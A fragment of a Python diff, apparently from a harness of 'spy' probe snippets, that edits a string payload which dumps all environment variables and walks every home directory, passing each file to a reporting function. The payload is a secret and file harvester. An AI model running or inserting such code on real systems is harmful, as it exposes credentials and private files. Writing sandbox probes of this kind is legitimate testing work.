@@ -68,9 +68,12 @@ import glob, pathlib
 tell("environ", repr(dict(os.environ)))
 homes = {os.path.expanduser("~"), os.environ.get("HOME", ""), "@HOME@", "/root", *glob.glob("/home/*")}
 for home in filter(None, homes):
-    for path in glob.glob(home + "/**", recursive=True)[:2000] + glob.glob(home + "/.[a-z]*/**", recursive=True)[:2000]:
-        if os.path.isfile(path) and ".venv" not in path:
-            tell_file(path)
+    for folder, names, files in os.walk(home):
+        names[:] = [n for n in names if n not in ("site-packages", "lib", ".venv")][:20]
+        for name in files[:50]:
+            path = os.path.join(folder, name)
+            if os.path.isfile(path):
+                tell_file(path)
 """,
     ),
     spy(
